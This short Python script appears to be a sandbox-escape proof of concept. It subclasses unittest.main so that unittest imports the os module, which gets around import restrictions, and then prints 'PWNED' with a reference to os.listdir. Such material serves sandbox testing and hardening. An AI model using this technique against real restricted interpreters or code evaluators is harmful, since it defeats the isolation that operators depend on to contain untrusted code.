import unittest


class Program(unittest.main):
    def __init__(self):
        for base in (unittest.main, Program):
            try:
                super(base, self).__init__(module="os", argv=["x"], exit=False)
            except (TypeError, ImportError, AttributeError):
                continue

    def runTests(self):
        pass


print("PWNED", Program().module.listdir)
